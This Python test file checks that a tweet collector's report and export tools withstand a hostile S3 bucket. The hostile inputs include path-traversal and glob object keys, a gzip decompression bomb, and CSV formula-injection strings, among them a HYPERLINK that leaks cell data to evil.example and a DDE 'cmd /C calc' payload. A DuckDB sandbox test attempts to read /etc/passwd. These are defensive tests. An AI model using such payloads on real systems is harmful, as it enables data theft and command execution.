"""A hostile bucket: what anyone holding the collector's key can write under its prefix, then
`collector report` / `export` run by an analyst. Keys are data, never paths, globs or queries.

Each test writes its attack with the collector's own key (the policy roles/iam renders, on a
moto that enforces IAM) and asserts the refusal a user sees: nothing outside the cache, no
foreign rows, the object named as skipped, the run finishing with the rest of the posts.
"""

from __future__ import annotations

import csv
import gzip
import json
import os
import subprocess
import sys
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import boto3
import pytest

from collector.analysis import export, report
from collector.spool.layout import data_file_name, event_file_name, object_key
from tests.bench.report_bench import post_line, templates
from tests.conftest import REPO
from tests.provision.test_prefix import render_roles

BUCKET = "prefix-test-bucket"  # the bucket render_roles renders the policy for
PREFIX = "tweets"
HOUR = datetime(2026, 12, 1, 10, tzinfo=UTC)
PERIOD = ["--from", "2026-12-01T10:00Z", "--to", "2026-12-01T11:00Z"]


@pytest.fixture(scope="module")
def collector_policy(tmp_path_factory) -> dict:
    """The policy roles/iam puts on the collector's user, rendered by Ansible."""
    return render_roles(tmp_path_factory.mktemp("policy"), PREFIX)["policy"]


class Bucket:
    """The bucket (created by the administrator) and the collector's key writing into it."""

    def __init__(self, moto_iam, policy: dict, tmp_path: Path) -> None:
        self.moto = moto_iam
        self.admin_s3 = moto_iam.client("s3")
        self.admin_s3.create_bucket(Bucket=BUCKET)
        self.key = moto_iam.create_user("twittersnake-collector", policy)
        self.s3 = moto_iam.client("s3", self.key)
        self.tmp = tmp_path
        self.cache = tmp_path / "cache"
        self.config = tmp_path / "collector.toml"
        self.config.write_text(
            f'collector_id = "collector-1"\n[s3]\nbucket = "{BUCKET}"\nprefix = "{PREFIX}"\n'
            f'region = "us-east-1"\nendpoint_url = "{moto_iam.url}"\n'
            f'[spool]\ndir = "{tmp_path / "spool"}"\n'
        )

    def put(self, key: str, body: bytes, **extra) -> str:
        """PutObject as the collector's key (a create: If-None-Match: *)."""
        self.s3.put_object(Bucket=BUCKET, Key=key, Body=body, IfNoneMatch="*", **extra)
        return key

    def put_posts(self, seq: int, lines: list[bytes], key: str | None = None) -> str:
        name = data_file_name("collector-1", HOUR + timedelta(minutes=seq), seq) + ".gz"
        return self.put(key or object_key(PREFIX, name), gzip.compress(b"".join(lines)))

    def env(self) -> dict[str, str]:
        return self.moto.env(self.key)


@pytest.fixture
def bucket(moto_iam, collector_policy, tmp_path, monkeypatch) -> Bucket:
    world = Bucket(moto_iam, collector_policy, tmp_path)
    for name, value in world.env().items():
        monkeypatch.setenv(name, value)
    # boto3's default session keeps the first credentials it found: this test's key instead.
    monkeypatch.setattr(boto3, "DEFAULT_SESSION", None)
    return world


def posts(first_id: int, count: int, **fields) -> list[bytes]:
    sample = templates()[0]
    return [
        post_line(sample, first_id + i, HOUR + timedelta(minutes=5, seconds=i), ["r"], **fields)
        for i in range(count)
    ]


def with_text(line: bytes, text: str) -> bytes:
    message = json.loads(line)
    message["data"]["text"] = text
    return json.dumps(message).encode() + b"\n"


def run_report(bucket: Bucket, capsys, *extra: str) -> tuple[int, str, str]:
    argv = ["--config", str(bucket.config), "--out", str(bucket.tmp / "report.html")]
    argv += ["--cache-dir", str(bucket.cache), "--no-progress", *PERIOD, *extra]
    code = report.main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def run_export(bucket: Bucket, capsys, out: Path, *extra: str) -> tuple[int, str, str]:
    argv = ["--config", str(bucket.config), "--out", str(out), "--cache-dir", str(bucket.cache)]
    argv += ["--no-progress", *PERIOD, *extra]
    code = export.main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_a_traversal_key_writes_nothing_outside_the_cache(bucket, capsys):
    partition = f"{PREFIX}/dt=2026-12-01/hour=10/"
    # cache/BUCKET/tweets/dt=/hour=/ + five '..' = the folder that holds the cache
    name = "collector-1-20261201T100000Z-000009.jsonl"
    escape = f"{partition}../../../../../victim/{name}"
    victim = bucket.tmp / "victim" / name
    victim.parent.mkdir()
    victim.write_bytes(b"the analyst's own file\n")
    bucket.put(escape, b"".join(posts(900, 3)))
    evil = f"{partition}../../../../../elsewhere/{name}.gz"
    bucket.put(evil, gzip.compress(b"x\n"))
    bucket.put_posts(1, posts(100, 5))
    before = {p for p in bucket.tmp.rglob("*") if p.is_file()}

    code, out, err = run_report(bucket, capsys)

    assert code == 0, err
    assert victim.read_bytes() == b"the analyst's own file\n"
    assert not (bucket.tmp / "elsewhere").exists()
    new = {p for p in bucket.tmp.rglob("*") if p.is_file()} - before
    assert {p for p in new if bucket.cache not in p.parents} == {bucket.tmp / "report.html"}
    for key in (escape, evil):
        assert f"skipped object s3://{BUCKET}/{key}: refused key: not in the collector's" in err
    assert ": 5 posts from 3 objects" in out and "2 objects and 0 lines skipped" in out


def test_a_traversal_compliance_key_writes_nothing_outside_the_cache(bucket, capsys):
    escape = f"{PREFIX}/_compliance/dt=2026-12-01/../../../../../victim/1.jsonl"
    bucket.put(escape, b'{"id": "100", "reason": "deleted"}\n')
    bucket.put_posts(1, posts(100, 5))

    code, printed, err = run_export(bucket, capsys, bucket.tmp / "posts.parquet")

    assert code == 0, err
    assert not (bucket.tmp / "victim").exists()
    assert f"skipped compliance object s3://{BUCKET}/{escape}: refused key" in err
    assert ": 5 posts" in printed


def test_a_glob_key_does_not_pull_another_buckets_cached_posts_into_the_export(bucket, capsys):
    # Another bucket's posts, cached by an earlier report of that bucket.
    foreign = bucket.cache / "other-bucket" / PREFIX / "dt=2026-12-01" / "hour=10"
    foreign.mkdir(parents=True)
    (foreign / "collector-9-20261201T100000Z-000001.jsonl").write_bytes(b"".join(posts(700, 4)))
    partition = f"{PREFIX}/dt=2026-12-01/hour=10/"
    for key in (
        f"{partition}../../../../other-bucket/{PREFIX}/dt=2026-12-01/hour=10/*.jsonl",
        f"{partition}collector-1-20261201T100000Z-*.jsonl.gz",
        f"{partition}collector-1-20261201T100000Z-00000[0-9].jsonl.gz",
    ):
        bucket.put(key, b"".join(posts(800, 1)))
    bucket.put_posts(1, posts(100, 5))
    out = bucket.tmp / "posts.csv"

    code, printed, err = run_export(bucket, capsys, out)

    assert code == 0, err
    with open(out, newline="") as handle:
        ids = sorted(row["id"] for row in csv.DictReader(handle))
    assert ids == [str(100 + i) for i in range(5)]
    assert err.count("refused key") == 3, err
    assert "3 objects and 0 lines skipped" in printed


def test_a_key_outside_the_layout_is_skipped_and_named_not_the_end_of_the_export(bucket, capsys):
    odd = f"{PREFIX}/dt=2026-12-01/hour=10/extra=1/collector-1-20261201T100100Z-000001.jsonl.gz"
    bucket.put(odd, gzip.compress(b"".join(posts(500, 2))))
    moved = f"{PREFIX}/dt=2026-12-01/hour=10/collector-1-20261130T230000Z-000002.jsonl.gz"
    bucket.put(moved, gzip.compress(b"".join(posts(600, 2))))  # its name says another hour
    bucket.put_posts(3, posts(100, 5))

    code, printed, err = run_export(bucket, capsys, bucket.tmp / "posts.parquet")

    assert code == 0, err
    layout = "refused key: not in the collector's key layout"
    assert f"skipped object s3://{BUCKET}/{odd}: {layout}" in err
    assert f"skipped object s3://{BUCKET}/{moved}: refused key" in err
    assert ": 5 posts (0 duplicates left out)" in printed


def test_an_archived_object_is_skipped_and_named(bucket, capsys):
    """An object in DEEP_ARCHIVE (a lifecycle rule, or a leaked key before the policy refused
    the storage class) cannot be read until restored: S3 answers InvalidObjectState."""
    name = data_file_name("collector-1", HOUR + timedelta(minutes=1), 1) + ".gz"
    archived = object_key(PREFIX, name)
    bucket.admin_s3.put_object(
        Bucket=BUCKET, Key=archived, Body=gzip.compress(b"".join(posts(300, 2))),
        StorageClass="DEEP_ARCHIVE",
    )  # fmt: skip
    bucket.put_posts(2, posts(100, 5))

    code, out, err = run_report(bucket, capsys)

    assert code == 0, err
    assert (
        f"skipped object s3://{BUCKET}/{archived}: unreadable object: InvalidObjectState" in err
    ), err
    assert "restore the object, then run again" in err
    assert ": 5 posts from 2 objects" in out and "1 objects and 0 lines skipped" in out


def test_an_object_encrypted_with_a_customer_key_is_skipped_and_named(bucket, capsys):
    """SSE-C: only the writer's key reads it back (S3 answers 400 to a GET or HEAD without it);
    the collector's policy refuses such a PUT, an administrator's key need not."""
    name = data_file_name("collector-1", HOUR + timedelta(minutes=1), 1) + ".gz"
    locked = object_key(PREFIX, name)
    bucket.admin_s3.put_object(
        Bucket=BUCKET, Key=locked, Body=gzip.compress(b"".join(posts(300, 2))),
        SSECustomerAlgorithm="AES256", SSECustomerKey="k" * 32,
    )  # fmt: skip
    bucket.put_posts(2, posts(100, 5))

    code, out, err = run_report(bucket, capsys)

    assert code == 0, err
    assert f"skipped object s3://{BUCKET}/{locked}: unreadable object: 400" in err, err
    assert "encrypted with a customer-provided key, SSE-C" in err
    assert ": 5 posts from 2 objects" in out and "1 objects and 0 lines skipped" in out


BOMB_BYTES = 1 << 30  # 1 GiB of spaces: about 1 MB compressed


def gzip_bomb() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: the gzip container
    chunk = b" " * (1 << 20)
    parts = [compressor.compress(chunk) for _ in range(BOMB_BYTES >> 20)]
    return b"".join(parts) + compressor.flush()


def test_a_gzip_bomb_under_events_is_refused_without_reading_it_whole(bucket, tmp_path):
    at = HOUR + timedelta(minutes=2)
    bomb = object_key(PREFIX, event_file_name("collector-1", at, 1) + ".gz")
    bucket.put(bomb, gzip_bomb())
    bucket.put_posts(1, posts(100, 5))
    measure = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:])\n"
        "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
    )
    argv = [sys.executable, "-c", measure, sys.executable, "-m", "collector", "report"]
    argv += ["--config", str(bucket.config), "--out", str(tmp_path / "r.html"), "--no-progress"]
    argv += ["--cache-dir", str(bucket.cache), *PERIOD]
    done = subprocess.run(
        argv, cwd=REPO, env={**os.environ, **bucket.env()}, capture_output=True, text=True,
        timeout=120,
    )  # fmt: skip
    code, max_rss_kib = map(int, done.stdout.split()[-2:])
    assert code == 0, done.stderr
    assert f"{bomb}: ValueError: decompresses to more than 65536 bytes" in done.stderr
    assert max_rss_kib < 400 * 1024, f"{max_rss_kib} KiB"  # a whole read is over 1 GiB


def test_a_dollar_in_a_hashtag_or_rule_tag_is_text_in_the_charts(bucket, capsys):
    lines = posts(100, 3, hashtags=[r"$\frac{$", "a$b$c"])
    lines += [post_line(templates()[0], 200, HOUR + timedelta(minutes=9), [r"$\unknowncommand$"])]
    bucket.put_posts(1, lines)

    code, out, err = run_report(bucket, capsys, "--png", str(bucket.tmp / "png"))

    assert code == 0, err
    assert ": 4 posts" in out
    assert {p.name for p in (bucket.tmp / "png").iterdir()} >= {"hashtags.png", "rules.png"}
    page = (bucket.tmp / "report.html").read_text()
    assert "<td>$\\unknowncommand$</td>" in page


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_would_start_a_formula_are_written_as_text(bucket, capsys):
    lines = [with_text(line, text) for line, text in zip(posts(100, 6), FORMULAS, strict=True)]
    lines += [with_text(posts(106, 1)[0], "plain = text")]
    bucket.put_posts(1, lines)

    code, _, err = run_export(bucket, capsys, bucket.tmp / "posts.csv")
    assert code == 0, err
    with open(bucket.tmp / "posts.csv", newline="") as handle:
        texts = {row["id"]: row["text"] for row in csv.DictReader(handle)}
    assert [texts[str(100 + i)] for i in range(6)] == [f"'{t}" for t in FORMULAS]
    assert texts["106"] == "plain = text"

    code, _, err = run_export(bucket, capsys, bucket.tmp / "raw.csv", "--csv-raw")
    assert code == 0, err
    with open(bucket.tmp / "raw.csv", newline="") as handle:
        raw = {row["id"]: row["text"] for row in csv.DictReader(handle)}
    assert [raw[str(100 + i)] for i in range(6)] == FORMULAS


def test_duckdb_reaches_only_the_cache_and_the_output(tmp_path):
    """Defence in depth behind the key check: a path DuckDB is handed that is not under the
    cache or the output is refused by DuckDB itself, and the sandbox cannot be lifted."""
    import duckdb

    from collector.analysis import loader

    (tmp_path / "cache").mkdir()
    secret = tmp_path / "secret.jsonl"
    secret.write_text('{"data": {"id": "1"}}\n')
    con = loader.connect(allowed_directories=[tmp_path / "cache", tmp_path / "out"])
    for statement in (
        f"SELECT * FROM read_json('{secret}')",
        f"SELECT * FROM read_json('{tmp_path}/cache/../secret.jsonl')",
        "SELECT * FROM read_text('/etc/passwd')",
        f"COPY (SELECT 1) TO '{tmp_path}/elsewhere.csv'",
    ):
        with pytest.raises(duckdb.PermissionException):
            con.execute(statement)
    with pytest.raises(duckdb.InvalidInputException, match="configuration has been locked"):
        con.execute("SET enable_external_access = true")
    (tmp_path / "out").mkdir()
    con.execute(f"COPY (SELECT 1 AS one) TO '{tmp_path}/out/ok.csv'")
    assert (tmp_path / "out" / "ok.csv").read_text() == "one\n1\n"
